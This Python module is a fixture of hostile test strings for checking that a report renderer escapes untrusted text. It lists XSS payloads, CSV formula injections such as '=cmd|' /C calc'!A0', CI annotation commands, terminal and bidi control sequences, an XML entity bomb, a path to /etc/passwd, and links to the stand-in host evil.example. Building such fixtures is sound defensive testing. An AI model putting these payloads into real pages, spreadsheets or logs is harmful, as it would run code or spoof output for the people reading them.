"""Hostile texts for every sink: what a model, a data set or a settings file could say to act on who reads a report.

`PAYLOADS` maps a name to a text; `XSS` is the part that aims at a browser: each of them, were it taken as markup, would
call ``alert`` with its own number or load from ``evil.example``, so that a test in a real browser can listen for both.
"""

from __future__ import annotations

XSS: dict[str, str] = {
    "script": "<script>alert(1)</script>",
    "script after a style": "</style><script>alert(2)</script>",
    "script after a title": "</title><script>alert(3)</script>",
    "script in upper case with a slash": "<SCRIPT/x>alert(4)</SCRIPT >",
    "image with a handler": '"><img src=x onerror=alert(5)>',
    "handler out of a quoted attribute": '" onmouseover="alert(6)" autofocus onfocus="alert(6)',
    "handler out of an apostrophe": "' onmouseover='alert(7)' autofocus onfocus='alert(7)",
    "handler out of an unquoted attribute": "x onfocus=alert(8) autofocus",
    "svg": "<svg/onload=alert(9)>",
    "svg with a script": "<svg><script>alert(10)</script></svg>",
    "javascript link": '<a href="javascript:alert(11)">press</a>',
    "javascript link with a tab": '<a href="java\tscript:alert(12)">press</a>',
    "javascript link in Markdown": "[press](javascript:alert(13)) ![see](https://evil.example/13.png)",
    "frame": "<iframe srcdoc='<script>alert(14)</script>'></iframe>",
    "comment that ends early": "<!--><script>alert(15)</script>-->",
    "CDATA": "]]><script>alert(16)</script><![CDATA[",
    "details that open": "</details><details open ontoggle=alert(17)>",
    "template element": "<template><img src=x onerror=alert(18)></template>",
    "mathml": "<math><mtext></style><img src=x onerror=alert(19)></math>",
    "textarea": "</textarea><script>alert(20)</script>",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(21)>">',
    "base and form": '<base href="https://evil.example/"><form action="https://evil.example/22"><button>press',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/23">',
    "style that loads": "<style>@import url(https://evil.example/24.css)</style>",
    "link and object": '<link rel=stylesheet href="https://evil.example/25"><object data="https://evil.example/25">',
    "entities": "&lt;script&gt;alert(26)&lt;/script&gt; &#60;script&#62;alert(26)&#60;/script&#62;",
    "script in JSON": '{"a": "</script><script>alert(27)</script>"} \\u003cscript\\u003ealert(27)',
    "full width": "\uff1cscript\uff1ealert(28)\uff1c/script\uff1e",
    "nul within a tag": "<scr\x00ipt>alert(29)</scr\x00ipt>",
    "Jinja": "{{ ''.__class__.__mro__ }}{% raw %}<script>alert(30)</script>",
}

CONTROL: dict[str, str] = {
    "colours": "\x1b[31mred\x1b[0m \x1b[2J\x1b[H",
    "window title and link": "\x1b]0;owned\x07 \x1b]8;;https://evil.example\x07press\x1b]8;;\x07",
    "eight-bit escapes": "\x9b31mred \x9d0;owned\x9c",
    "over the line": "secret\rpublic\b\b\b\x7f",
    "bidi override": "safe\u202egnp.exe\u202c",
    "bidi isolates": "\u2066a\u2067b\u2068c\u2069\u200e\u200f\u061c",
    "invisible": "zero\u200bwidth\u200d\u2060\ufeff\u00ad",
    "tags": "\U000e0041\U000e0042\U000e007f",
    "line and paragraph separators": "one\u2028two\u2029three\x85four",
    "not characters": "\ufffe\uffff\ufdd0 \x00\x01\x0c",
    "lone surrogates": "high \ud800 low \udfff reversed \udc80\ud83d",
    "marks upon marks": "Z\u0335\u0321\u0322a\u0336\u0315l\u0338g\u0334o" + "\u0301" * 60,
}

COMMANDS: dict[str, str] = {
    "annotation": "::error file=x.py,line=1::owned",
    "annotation on a later line": "fine\n  ::set-output name=a::owned\r\n::stop-commands::x",
    "runner brackets": "##[error]owned ##vso[task.complete result=Succeeded] ##teamcity[buildStop]",
    "formula": "=cmd|' /C calc'!A0",
    "formula by sign": '+1+cmd|\' /C calc\'!A0\n-2+3\n@SUM(1+1)\n\t=HYPERLINK("https://evil.example","x")',
    "formula in full width": "\uff1d1+1 \uff0b1 \uff20SUM(1)",
    "cells of a CSV": 'a","b\r\n"c";d\te',
    "end of CDATA": "]]></failure><testcase name='passed'/><![CDATA[",
    "entity bomb": '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]>&b;',
    "markup of rich": "[bold red]red[/bold red] [link=https://evil.example]press[/link] [/] \\[x]",
    "Markdown": "| a | b |\n|---|---|\n# heading\n- list\n> quote\n```\ncode\n``` **b** _i_ ~~s~~ `c` $x$ <b>",
    "names and links": "@everyone #1 GH-2 https://evil.example www.evil.example a@evil.example",
    "percent": "100% %0A%0D %s %(x)s {0} {x}",
    "path": "../../etc/passwd\x00 C:\\x /dev/null",
}

HUGE = "A" * 5_000_000
"""An answer of 5 MB."""

PAYLOADS: dict[str, str] = {**XSS, **CONTROL, **COMMANDS}
"""All but `HUGE`."""
